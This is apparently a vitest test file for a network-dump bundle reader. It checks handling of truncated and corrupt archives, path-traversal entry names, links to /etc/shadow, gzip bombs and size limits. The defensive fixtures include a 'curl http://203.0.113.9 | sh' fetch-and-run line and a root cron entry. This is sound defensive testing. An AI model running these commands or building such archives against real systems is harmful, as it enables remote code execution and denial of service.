import { randomBytes } from 'node:crypto';
import { mkdir, mkdtemp, rm, symlink, writeFile } from 'node:fs/promises';
import { createServer } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { createGzip, gzipSync } from 'node:zlib';
import { pack } from 'tar-stream';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Bundle } from '../../analyzer/bundle/bundle.js';
import type { ParseIssueCode } from '../../analyzer/bundle/parse-issue.js';
import { BundleReadError, readBundle, readBundleFromBuffer } from '../../analyzer/bundle/read-bundle.js';
import { packTar, packTarEntries, packTgz } from '../helpers/pack-bundle.js';
import { IPTABLES_SAVE, IP_ROUTE, MANIFEST, RESOLV_CONF } from './sample-bundle.js';

let scratch: string;

beforeAll(async () => {
  scratch = await mkdtemp(join(tmpdir(), 'netdump-hostile-'));
});

afterAll(async () => {
  await rm(scratch, { recursive: true, force: true });
});

function codes(bundle: Bundle): ParseIssueCode[] {
  return bundle.issues.map((issue) => issue.code);
}

function paths(bundle: Bundle): string[] {
  return [...bundle.files.keys()].sort();
}

/** Text that deflate cannot shrink much, so a cut in the tgz lands inside this file's data. */
function noisyLog(bytes: number): string {
  return randomBytes(Math.ceil((bytes * 3) / 4)).toString('base64').replace(/(.{76})/g, '$1\n');
}

/**
 * A tgz of `before`, then one `size`-byte file of zeros, then `after`, compressed while it is
 * generated: a 64 MB member costs about 64 KB of memory.
 */
async function gzipBomb(size: number, before: Record<string, string>, after: Record<string, string> = {}): Promise<Buffer> {
  const packer = pack();
  const gzip = createGzip();
  const output: Buffer[] = [];
  gzip.on('data', (chunk: Buffer) => output.push(chunk));
  const done = new Promise<void>((resolve, reject) => {
    gzip.on('end', resolve);
    gzip.on('error', reject);
  });
  packer.pipe(gzip);
  for (const [name, text] of Object.entries(before)) packer.entry({ name }, text);
  await new Promise<void>((resolve, reject) => {
    const sink = packer.entry({ name: 'netdump/nodes/node-a/conntrack-list.txt', size }, (err) => (err ? reject(err) : resolve()));
    const zeros = Buffer.alloc(1024 * 1024);
    let left = size;
    const writeMore = (): void => {
      while (left > 0) {
        const n = Math.min(left, zeros.length);
        left -= n;
        if (!sink.write(zeros.subarray(0, n))) {
          sink.once('drain', writeMore);
          return;
        }
      }
      sink.end(null);
    };
    writeMore();
  });
  for (const [name, text] of Object.entries(after)) packer.entry({ name }, text);
  packer.finalize();
  await done;
  return Buffer.concat(output);
}

describe('damaged archives', () => {
  it('keeps the files before the cut of a truncated tgz and names the damaged one', async () => {
    const tgz = await packTgz(
      {
        'manifest.json': MANIFEST,
        'nodes/node-a/iptables-save.txt': IPTABLES_SAVE,
        'nodes/node-a/ip-route.txt': IP_ROUTE,
        'logs/kube-system/coredns-5d78c9869d-abcde/coredns.log': noisyLog(400_000),
        'nodes/node-b/ip-route.txt': IP_ROUTE,
      },
      { prefix: 'netdump-2026-11-26T10-00' },
    );
    const cut = tgz.subarray(0, Math.floor(tgz.length / 2));
    const bundle = await readBundleFromBuffer(cut, 'cut.tgz');

    expect(paths(bundle)).toEqual(['manifest.json', 'nodes/node-a/ip-route.txt', 'nodes/node-a/iptables-save.txt']);
    expect(bundle.get('nodes/node-a/iptables-save.txt')?.text).toBe(IPTABLES_SAVE);
    expect(bundle.manifest?.format).toBe('netdump/v1');
    expect(codes(bundle)).toEqual(['TRUNCATED_ARCHIVE']);
    const issue = bundle.issues[0]!;
    expect(issue.file).toBe('logs/kube-system/coredns-5d78c9869d-abcde/coredns.log');
    expect(issue.message).toMatch(/gzip stream ends early/);
    expect(issue.message).toContain('netdump-2026-11-26T10-00/logs/kube-system/coredns-5d78c9869d-abcde/coredns.log');
    expect(bundle.skipped.has('logs/kube-system/coredns-5d78c9869d-abcde/coredns.log')).toBe(true);
  });

  it('reads a truncated .tgz file from disk the same way', async () => {
    const tgz = await packTgz({
      'nodes/node-a/ip-route.txt': IP_ROUTE,
      'nodes/node-a/cilium/monitor-drop.txt': noisyLog(300_000),
    });
    const path = join(scratch, 'cut.tgz');
    await writeFile(path, tgz.subarray(0, tgz.length - 100_000));
    const bundle = await readBundle(path);
    expect(paths(bundle)).toEqual(['nodes/node-a/ip-route.txt']);
    expect(bundle.issues).toMatchObject([{ code: 'TRUNCATED_ARCHIVE', file: 'nodes/node-a/cilium/monitor-drop.txt' }]);
  });

  it('keeps the files before the cut of a truncated plain tar', async () => {
    const tar = await packTar({
      'nodes/node-a/ip-route.txt': IP_ROUTE,
      'nodes/node-a/iptables-save.txt': IPTABLES_SAVE.repeat(20),
    });
    const bundle = await readBundleFromBuffer(tar.subarray(0, 1024 + 1024), 'cut.tar');
    expect(paths(bundle)).toEqual(['nodes/node-a/ip-route.txt']);
    expect(bundle.issues).toMatchObject([{ code: 'TRUNCATED_ARCHIVE', file: 'nodes/node-a/iptables-save.txt' }]);
    expect(bundle.issues[0]!.message).toMatch(/ends in the middle of an entry/);
  });

  it('warns when a tar ends between entries, without its end-of-archive marker', async () => {
    const tar = await packTar({ 'nodes/node-a/ip-route.txt': IP_ROUTE, 'nodes/node-a/resolv.conf': RESOLV_CONF });
    // header + one data block per file; the second file's header starts at 1024.
    const bundle = await readBundleFromBuffer(tar.subarray(0, 1024), 'cut.tar');
    expect(paths(bundle)).toEqual(['nodes/node-a/ip-route.txt']);
    expect(bundle.issues).toMatchObject([{ code: 'TRUNCATED_ARCHIVE', file: '', severity: 'warning' }]);
  });

  it('reports a corrupt tar header and keeps the entries before it', async () => {
    const tar = Buffer.from(await packTar({ 'nodes/node-a/ip-route.txt': IP_ROUTE, 'nodes/node-a/resolv.conf': RESOLV_CONF }));
    tar.write('garbage!', 1024 + 10, 'latin1'); // inside the second header's name: its checksum no longer matches
    const bundle = await readBundleFromBuffer(tar, 'corrupt.tar');
    expect(paths(bundle)).toEqual(['nodes/node-a/ip-route.txt']);
    expect(bundle.issues).toMatchObject([{ code: 'CORRUPT_ARCHIVE', file: '' }]);
    expect(bundle.issues[0]!.message).toMatch(/Invalid tar header/);
  });

  it('reports a corrupt gzip stream', async () => {
    const tgz = Buffer.from(await packTgz({ 'nodes/node-a/ip-route.txt': IP_ROUTE, 'logs/a/b/c.log': noisyLog(200_000) }));
    for (let i = 0; i < 64; i++) tgz[Math.floor(tgz.length / 2) + i] ^= 0xff;
    const bundle = await readBundleFromBuffer(tgz, 'corrupt.tgz');
    expect(paths(bundle)).toEqual(['nodes/node-a/ip-route.txt']);
    expect(bundle.issues).toMatchObject([{ code: 'CORRUPT_ARCHIVE', file: 'logs/a/b/c.log' }]);
    expect(bundle.issues[0]!.message).toMatch(/gzip stream is corrupt/);
  });
});

describe('input that is no bundle', () => {
  it('rejects garbage bytes with a clear BundleReadError', async () => {
    const path = join(scratch, 'garbage.tgz');
    await writeFile(path, randomBytes(4096));
    const error = await readBundle(path).catch((err: unknown) => err);
    expect(error).toBeInstanceOf(BundleReadError);
    expect((error as Error).message).toContain(path);
    expect((error as Error).message).toContain('neither gzip nor tar data');
  });

  it('rejects a short text file', async () => {
    await expect(readBundleFromBuffer(Buffer.from('not a bundle\n'), 'notes.txt')).rejects.toThrow(
      /cannot read bundle notes\.txt: neither gzip nor tar data/,
    );
  });

  it('rejects gzip data that holds no tar', async () => {
    const gz = gzipSync(Buffer.from(IPTABLES_SAVE.repeat(10)));
    await expect(readBundleFromBuffer(gz, 'iptables-save.txt.gz')).rejects.toThrow(
      /gzip data that does not hold a readable tar archive/,
    );
  });

  it('says so when the archive is xz-compressed', async () => {
    const xzHeader = Buffer.from([0xfd, 0x37, 0x7a, 0x58, 0x5a, 0x00, 0x00, 0x04, ...randomBytes(600)]);
    await expect(readBundleFromBuffer(xzHeader, 'bundle.tar.xz')).rejects.toThrow(/xz-compressed/);
  });
});

describe('hostile entries', () => {
  it('refuses ../ and absolute entry names and keeps the rest', async () => {
    const tar = await packTar(
      { 'nodes/node-a/ip-route.txt': IP_ROUTE },
      {
        prefix: 'netdump',
        entries: [
          { name: '../evil.sh', content: 'curl http://203.0.113.9 | sh\n' },
          { name: 'netdump/nodes/../../outside.txt', content: 'x\n' },
          { name: '/etc/cron.d/evil', content: '* * * * * root sh\n' },
          { name: 'C:\\Windows\\evil.txt', content: 'x\n' },
        ],
      },
    );
    const bundle = await readBundleFromBuffer(tar, 'hostile.tar');
    expect(paths(bundle)).toEqual(['nodes/node-a/ip-route.txt']);
    expect(bundle.issues.map((issue) => [issue.code, issue.file])).toEqual([
      ['UNSAFE_PATH', '../evil.sh'],
      ['UNSAFE_PATH', 'netdump/nodes/../../outside.txt'],
      ['UNSAFE_PATH', '/etc/cron.d/evil'],
      ['UNSAFE_PATH', 'C:\\Windows\\evil.txt'],
    ]);
    expect(bundle.skipped.size).toBe(0);
  });

  it('ignores symbolic and hard links and records them with their names', async () => {
    const tgz = await packTgz(
      { 'nodes/node-a/ip-route.txt': IP_ROUTE },
      {
        entries: [
          { name: 'nodes/node-a/resolv.conf', type: 'symlink', linkname: '/etc/resolv.conf' },
          { name: 'nodes/node-a/shadow', type: 'link', linkname: '/etc/shadow' },
        ],
      },
    );
    const bundle = await readBundleFromBuffer(tgz, 'links.tgz');
    expect(paths(bundle)).toEqual(['nodes/node-a/ip-route.txt']);
    expect(bundle.issues).toMatchObject([
      { code: 'LINK_IGNORED', file: 'nodes/node-a/resolv.conf', severity: 'warning' },
      { code: 'LINK_IGNORED', file: 'nodes/node-a/shadow', severity: 'warning' },
    ]);
    expect(bundle.issues[0]!.message).toBe('symbolic link nodes/node-a/resolv.conf -> /etc/resolv.conf ignored');
    expect(bundle.issues[1]!.message).toBe('hard link nodes/node-a/shadow -> /etc/shadow ignored');
  });

  it('ignores devices and fifos', async () => {
    const tgz = await packTgz(
      { 'nodes/node-a/ip-route.txt': IP_ROUTE },
      {
        entries: [
          { name: 'nodes/node-a/null', type: 'character-device' },
          { name: 'nodes/node-a/sda', type: 'block-device' },
          { name: 'nodes/node-a/pipe', type: 'fifo' },
        ],
      },
    );
    const bundle = await readBundleFromBuffer(tgz, 'devices.tgz');
    expect(paths(bundle)).toEqual(['nodes/node-a/ip-route.txt']);
    expect(bundle.issues.map((issue) => [issue.code, issue.file])).toEqual([
      ['SPECIAL_FILE_IGNORED', 'nodes/node-a/null'],
      ['SPECIAL_FILE_IGNORED', 'nodes/node-a/sda'],
      ['SPECIAL_FILE_IGNORED', 'nodes/node-a/pipe'],
    ]);
    expect(bundle.issues[0]!.message).toContain('character-device');
  });

  it('keeps binary and invalid UTF-8 files out as NOT_TEXT', async () => {
    const tgz = await packTgz({
      'nodes/node-a/ip-route.txt': IP_ROUTE,
      'nodes/node-a/core.dump': Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0x02, 0x01, 0x01, 0x00, 0x00, 0x00]),
      'nodes/node-a/sysctl.txt': Buffer.from('net.ipv4.ip_forward = 1\nkernel.hostname = caf\xe9\n', 'latin1'),
    });
    const bundle = await readBundleFromBuffer(tgz, 'binary.tgz');
    expect(paths(bundle)).toEqual(['nodes/node-a/ip-route.txt']);
    expect([...bundle.skipped].sort()).toEqual(['nodes/node-a/core.dump', 'nodes/node-a/sysctl.txt']);
    expect(bundle.issues).toMatchObject([
      { code: 'NOT_TEXT', file: 'nodes/node-a/core.dump', message: expect.stringContaining('NUL bytes') },
      { code: 'NOT_TEXT', file: 'nodes/node-a/sysctl.txt', message: expect.stringContaining('invalid UTF-8') },
    ]);
  });
});

describe('limits', () => {
  it('skips a file over the per-file limit without losing the others', async () => {
    const tgz = await packTgz({
      'nodes/node-a/ip-route.txt': IP_ROUTE,
      'nodes/node-a/iptables-save.txt': IPTABLES_SAVE.repeat(100),
      'nodes/node-a/resolv.conf': RESOLV_CONF,
    });
    const bundle = await readBundleFromBuffer(tgz, 'big.tgz', { maxFileBytes: 4096 });
    expect(paths(bundle)).toEqual(['nodes/node-a/ip-route.txt', 'nodes/node-a/resolv.conf']);
    expect([...bundle.skipped]).toEqual(['nodes/node-a/iptables-save.txt']);
    expect(bundle.issues).toMatchObject([{ code: 'FILE_TOO_LARGE', file: 'nodes/node-a/iptables-save.txt' }]);
    expect(bundle.issues[0]!.message).toContain(`${IPTABLES_SAVE.length * 100} bytes`);
  });

  it('stops a gzip bomb at the total limit and keeps what came before', async () => {
    const bomb = await gzipBomb(64 * 1024 * 1024, { 'netdump/nodes/node-a/ip-route.txt': IP_ROUTE }, {
      'netdump/nodes/node-a/resolv.conf': RESOLV_CONF,
    });
    expect(bomb.length).toBeLessThan(1024 * 1024);
    const bundle = await readBundleFromBuffer(bomb, 'bomb.tgz', { maxTotalBytes: 4 * 1024 * 1024 });
    expect(paths(bundle)).toEqual(['nodes/node-a/ip-route.txt']);
    expect(bundle.issues).toMatchObject([{ code: 'TOTAL_SIZE_EXCEEDED', file: 'nodes/node-a/conntrack-list.txt' }]);
    expect(bundle.issues[0]!.message).toContain(`more than ${4 * 1024 * 1024} bytes`);
    expect(bundle.issues[0]!.message).toContain('netdump/nodes/node-a/conntrack-list.txt was cut short and dropped');
  });

  it('counts the bytes of skipped entries against the total limit', async () => {
    const bomb = await gzipBomb(64 * 1024 * 1024, { 'nodes/node-a/ip-route.txt': IP_ROUTE }, {
      'nodes/node-a/resolv.conf': RESOLV_CONF,
    });
    const bundle = await readBundleFromBuffer(bomb, 'bomb.tgz', { maxFileBytes: 1024 * 1024, maxTotalBytes: 4 * 1024 * 1024 });
    expect(paths(bundle)).toEqual(['nodes/node-a/ip-route.txt']);
    expect(codes(bundle)).toEqual(['FILE_TOO_LARGE', 'TOTAL_SIZE_EXCEEDED']);
  });

  it('stops a stream of zeros that holds no entry at all', async () => {
    const zeros = gzipSync(Buffer.alloc(16 * 1024 * 1024));
    const bundle = await readBundleFromBuffer(zeros, 'zeros.tgz', { maxTotalBytes: 1024 * 1024 });
    expect(bundle.files.size).toBe(0);
    expect(codes(bundle)).toEqual(['TOTAL_SIZE_EXCEEDED']);
  });

  it('stops after too many entries', async () => {
    const files: Record<string, string> = {};
    for (let i = 0; i < 10; i++) files[`logs/kube-system/coredns-${i}/coredns.log`] = `[INFO] ${i}\n`;
    const bundle = await readBundleFromBuffer(await packTgz(files), 'many.tgz', { maxEntries: 6 });
    expect(bundle.files.size).toBe(6);
    expect(bundle.has('logs/kube-system/coredns-5/coredns.log')).toBe(true);
    expect(bundle.has('logs/kube-system/coredns-6/coredns.log')).toBe(false);
    expect(bundle.issues).toMatchObject([{ code: 'TOO_MANY_ENTRIES', file: '' }]);
    expect(bundle.issues[0]!.message).toContain('more than 6 entries');
  });
});

describe('folders', () => {
  it('records symbolic links in a bundle folder and never follows them', async () => {
    const outside = join(scratch, 'outside');
    await mkdir(outside, { recursive: true });
    await writeFile(join(outside, 'services.json'), '{"kind":"List","items":[]}\n');
    await writeFile(join(outside, 'id_rsa'), '-----BEGIN OPENSSH PRIVATE KEY-----\n');

    const dir = join(scratch, 'linked-bundle');
    await mkdir(join(dir, 'nodes', 'node-a'), { recursive: true });
    await writeFile(join(dir, 'nodes', 'node-a', 'ip-route.txt'), IP_ROUTE);
    await symlink(outside, join(dir, 'cluster'));
    await symlink(join(outside, 'id_rsa'), join(dir, 'nodes', 'node-a', 'resolv.conf'));

    const bundle = await readBundle(dir);
    expect(paths(bundle)).toEqual(['nodes/node-a/ip-route.txt']);
    expect(bundle.issues).toMatchObject([
      { code: 'LINK_IGNORED', file: 'cluster', message: `symbolic link cluster -> ${outside} not followed` },
      { code: 'LINK_IGNORED', file: 'nodes/node-a/resolv.conf' },
    ]);
  });

  it('ignores a socket in a bundle folder', async () => {
    const dir = join(scratch, 'socket-bundle');
    await mkdir(join(dir, 'nodes', 'node-a'), { recursive: true });
    await writeFile(join(dir, 'nodes', 'node-a', 'ip-route.txt'), IP_ROUTE);
    const server = createServer();
    await new Promise<void>((resolve) => server.listen(join(dir, 'nodes', 'node-a', 'containerd.sock'), resolve));
    try {
      const bundle = await readBundle(dir);
      expect(paths(bundle)).toEqual(['nodes/node-a/ip-route.txt']);
      expect(bundle.issues).toMatchObject([
        { code: 'SPECIAL_FILE_IGNORED', file: 'nodes/node-a/containerd.sock', message: 'socket nodes/node-a/containerd.sock ignored' },
      ]);
    } finally {
      await new Promise((resolve) => server.close(resolve));
    }
  });

  it('applies the per-file, total and entry limits to folders too', async () => {
    const dir = join(scratch, 'limited-folder');
    await mkdir(join(dir, 'nodes', 'node-a'), { recursive: true });
    await writeFile(join(dir, 'nodes', 'node-a', 'ip-route.txt'), IP_ROUTE);
    await writeFile(join(dir, 'nodes', 'node-a', 'iptables-save.txt'), IPTABLES_SAVE.repeat(100));
    await writeFile(join(dir, 'nodes', 'node-a', 'resolv.conf'), RESOLV_CONF);

    const perFile = await readBundle(dir, { maxFileBytes: 4096 });
    expect(paths(perFile)).toEqual(['nodes/node-a/ip-route.txt', 'nodes/node-a/resolv.conf']);
    expect(perFile.issues).toMatchObject([{ code: 'FILE_TOO_LARGE', file: 'nodes/node-a/iptables-save.txt' }]);

    const total = await readBundle(dir, { maxTotalBytes: IP_ROUTE.length + 10 });
    expect(paths(total)).toEqual(['nodes/node-a/ip-route.txt']);
    expect(codes(total)).toEqual(['TOTAL_SIZE_EXCEEDED']);

    // nodes, nodes/node-a, then the first file.
    const entries = await readBundle(dir, { maxEntries: 3 });
    expect(paths(entries)).toEqual(['nodes/node-a/ip-route.txt']);
    expect(codes(entries)).toEqual(['TOO_MANY_ENTRIES']);
  });
});
